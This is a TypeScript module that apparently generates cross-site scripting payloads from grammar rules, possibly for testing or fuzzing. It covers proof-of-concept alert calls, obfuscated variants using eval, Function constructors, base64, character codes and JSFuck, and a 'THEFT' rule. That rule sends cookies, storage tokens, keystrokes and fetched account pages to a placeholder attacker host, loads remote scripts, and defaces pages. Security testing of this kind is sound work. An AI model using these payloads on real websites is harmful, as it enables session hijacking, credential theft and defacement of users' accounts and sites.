/** JavaScript that cross-site scripting runs, from `alert(1)` to code that takes a session away. */
import {
  bound,
  characters,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Rule,
  repeat,
  text,
  weighted,
  words,
} from '../../grammar.ts';
import { ATTACKER_HOST, CALLBACK_HOST, MARKER } from '../hosts.ts';

/** What a proof shows. */
export const SHOWN: Rule = weighted(
  [6, '1'],
  [3, integer(0, 9999)],
  [4, oneOf("'XSS'", '"XSS"', "'xss'", '"xss"', '/XSS/', '/xss/', '`xss`')],
  [3, 'document.cookie'],
  [3, 'document.domain'],
  [2, words('origin window.origin location location.href document.location self.origin document.URL this.name name')],
  [2, oneOf(text`'${MARKER}'`, text`"${MARKER}"`, text`/${MARKER}/`)],
  [1, 'String.fromCharCode(88,83,83)'],
  [0.5, text`String.fromCharCode(${repeat(integer(65, 122), 1, 8, ',')})`],
  [0.5, words('localStorage.token navigator.userAgent sessionStorage.length document.title 1337 0x1 -1 Date()')],
  [0.3, ''],
);

const SHOW: Rule = weighted([10, 'alert'], [4, 'prompt'], [4, 'confirm'], [1.5, 'print'], [0.3, 'document.write']);

const URL: Rule = text`${oneOf('//', '//', 'http://', 'https://')}${ATTACKER_HOST}`;
const PAGE: Rule = text`${URL}/${oneOf('', text`${MARKER}`, text`${words('x c log steal cookie collect xss a i')}${words('.php .js /')}`, text`?c=`)}`;

/** The plainest call and its everyday variations. */
export const CALL: Rule = weighted(
  [12, text`${SHOW}(${SHOWN})`],
  [3, text`${SHOW}\`${oneOf('1', '', 'xss', MARKER)}\``],
  [1, text`${SHOW}(${SHOWN});`],
  [1, text`(${SHOW})(${SHOWN})`],
  [1, text`${words('window self top parent frames globalThis this')}.${SHOW}(${SHOWN})`],
  [1, text`[${SHOWN}].${words('find map some every filter forEach findIndex')}(${SHOW})`],
  [0.6, text`${SHOW}?.(${SHOWN})`],
  [0.6, text`${SHOW}.call(null,${SHOWN})`],
  [0.6, text`a=${SHOW},a(${SHOWN})`],
  [0.6, text`(${characters(LOWER_CASE, 1)}=${SHOW})(${SHOWN})`],
  [0.4, text`setTimeout(${SHOW},${integer(0, 999)})`],
  [0.4, text`${SHOW}/**/(${SHOWN})`],
  [0.4, text`void(${SHOW}(${SHOWN}))`],
  [0.4, text`with(document)${SHOW}(cookie)`],
  [0.3, text`throw onerror=${SHOW},${SHOWN}`],
  [0.3, text`onerror=${SHOW};throw ${SHOWN}`],
  [0.3, text`{onerror=${SHOW}}throw ${SHOWN}`],
  [0.3, text`Reflect.apply(${SHOW},null,[${SHOWN}])`],
  [0.3, text`Promise.resolve(${SHOWN}).then(${SHOW})`],
  [0.3, text`import('${PAGE}')`],
);

function sliced(name: string): Rule {
  const middle = Math.ceil(name.length / 2);
  return oneOf(
    `'${name.slice(0, middle)}'+'${name.slice(middle)}'`,
    `"${name.slice(0, middle)}"+"${name.slice(middle)}"`,
    `/${name.slice(0, middle)}/.source+/${name.slice(middle)}/.source`,
    `'${name}'`,
    `\`${name}\``,
    `'\\x${name.charCodeAt(0).toString(16)}${name.slice(1)}'`,
    `'\\${name.charCodeAt(0).toString(8)}${name.slice(1)}'`,
    `atob('${Buffer.from(name).toString('base64')}')`,
    `'${Array.from(name).reverse().join('')}'.split('').reverse().join('')`,
    `${Number.parseInt(name, 36)}..toString(36)`,
    `['${name.slice(0, middle)}','${name.slice(middle)}'].join('')`,
  );
}

const HIDDEN_NAME: Rule = bound(words('alert confirm prompt'), sliced);
const CODE_TEXT: Rule = bound(text`${SHOW}(${words('1 document.cookie document.domain origin 2')})`, (code) =>
  oneOf(
    `'${code}'`,
    `atob('${Buffer.from(code).toString('base64')}')`,
    `atob\`${Buffer.from(code).toString('base64')}\``,
    `String.fromCharCode(${Array.from(code, (character) => character.charCodeAt(0)).join(',')})`,
    `'${Array.from(code, (character) => `\\x${character.charCodeAt(0).toString(16)}`).join('')}'`,
    `unescape('${Array.from(code, (character) => `%${character.charCodeAt(0).toString(16)}`).join('')}')`,
    `decodeURIComponent('${encodeURIComponent(code).replaceAll('(', '%28')}')`,
    `/${code}/.source`,
    `'${code.slice(0, 3)}'+'${code.slice(3)}'`,
  ),
);

/** Code that hides what it calls. */
export const HIDDEN_CALL: Rule = weighted(
  [3, text`${words('window self top parent frames globalThis this')}[${HIDDEN_NAME}](${SHOWN})`],
  [3, text`eval(${CODE_TEXT})`],
  [1, text`(0,eval)(${CODE_TEXT})`],
  [2, text`${words('Function Function new/**/Function')}(${CODE_TEXT})()`],
  [1, text`${words('setTimeout setInterval setImmediate')}(${CODE_TEXT}${maybe(',0')})`],
  [2, text`[].${words('constructor filter map find sort at flat')}.constructor(${CODE_TEXT})()`],
  [
    1,
    text`${oneOf("''", '""', '(1)', 'Array', '(()=>{})', '/x/')}${oneOf('.sub', '.constructor', '.link')}.constructor(${CODE_TEXT})()`,
  ],
  [1, text`Reflect.construct(Function,[${CODE_TEXT}])()`],
  [1, text`Set.constructor\`${SHOW}\\x28${integer(1, 99)}\\x29\`\`\``],
  [1, text`eval.call\`\${${CODE_TEXT}}\``],
  [1, text`setTimeout\`${SHOW}\\x28${words('1 document.domain')}\\x29\``],
  [1, text`location=${oneOf("'javascript:'+", "'javas'+'cript:'+", '`javascript:`+')}${CODE_TEXT}`],
  [
    1,
    text`eval(${words('name location.hash.slice(1) location.hash.substr(1) URL.slice(-8) window.name document.referrer')})`,
  ],
  [1, text`document.body.innerHTML=${words('location.hash name decodeURI(location.hash)')}`],
  [
    1,
    text`document.write(${oneOf(text`'<script src=${URL}></scr'+'ipt>'`, text`'<img src=x onerror=${SHOW}(1)>'`, CODE_TEXT)})`,
  ],
  [0.7, text`top[/al/.source+/ert/.source](${SHOWN})`],
  [0.7, text`(${characters(LOWER_CASE, 1)}=>${SHOW}(${SHOWN}))()`],
  [0.7, text`_=${SHOW};_(${SHOWN})`],
  [0.5, text`Object.entries(window).find(e=>e[0]==${HIDDEN_NAME})[1](${SHOWN})`],
  [0.5, text`[document.cookie].map(${SHOW})`],
);

/** Code that sends something to the attacker or loads more. */
export const THEFT: Rule = oneOf(
  text`fetch('${PAGE}'+document.cookie)`,
  text`fetch(\`${PAGE}\${${words('document.cookie btoa(document.cookie) localStorage.token')}}\`)`,
  text`fetch('${PAGE}',{method:'POST',mode:'no-cors',body:document.cookie})`,
  text`new Image().src='${PAGE}'+${oneOf('document.cookie', 'escape(document.cookie)', 'encodeURIComponent(document.cookie)', 'btoa(document.cookie)', 'localStorage.getItem("token")')}`,
  text`document.location='${PAGE}'+document.cookie`,
  text`${words('location window.location location.href top.location self.location')}='${PAGE}'+document.cookie`,
  text`window.open('${PAGE}'+document.cookie)`,
  text`navigator.sendBeacon('${PAGE}',document.cookie)`,
  text`location.${words('replace assign')}('${PAGE}'+document.cookie)`,
  text`var i=new Image;i.src='${PAGE}'+document.domain;`,
  text`var x=new XMLHttpRequest();x.open('GET','${PAGE}'+document.cookie,true);x.send()`,
  text`$.getScript('${PAGE}')`,
  text`import('${URL}')`,
  text`import(/**/'${PAGE}')`,
  text`var s=document.createElement('script');s.src='${PAGE}';document.${words('body head documentElement')}.appendChild(s)`,
  text`document.body.appendChild(document.createElement\`script\`).src='${PAGE}'`,
  text`with(document)body.appendChild(createElement('script')).src='${URL}'`,
  text`document.write('<img src="${PAGE}'+document.cookie+'">')`,
  text`document.forms[0].action='${PAGE}'`,
  text`onkeypress=e=>fetch('${PAGE}'+e.key)`,
  text`fetch('/${words('account profile admin api/me settings')}').then(r=>r.text()).then(t=>fetch('${PAGE}'+btoa(t)))`,
  text`new WebSocket('wss://${CALLBACK_HOST}/').onopen=e=>e.target.send(document.cookie)`,
  text`window.location.href='${URL}'`,
  text`document.body.innerHTML='<h1>${words('hacked HACKED pwned defaced')}</h1>'`,
);

/** Pieces of code without letters, as JSFuck and its kin write it. */
export const SYMBOL_CODE: Rule = text`${repeat(
  words(`[] ![] !![] +[] (![]+[]) ([][[]]+[]) (!![]+[]) [+[]] [+!+[]] [!+[]+!+[]] +!+[] +!![] (+(!+[]+!+[])) [+!![]]
    (![]+[])[+[]] (![]+[])[+!+[]] ([]+{}) ({}+[])[!+[]+!+[]] []['\\146\\151'] (!![]+[])[+[]]`),
  8,
  40,
  '+',
)}${maybe('()')}`;

/** Any of the above, mostly the plain ones. */
export const SCRIPT: Rule = weighted([10, CALL], [4, HIDDEN_CALL], [3, THEFT]);
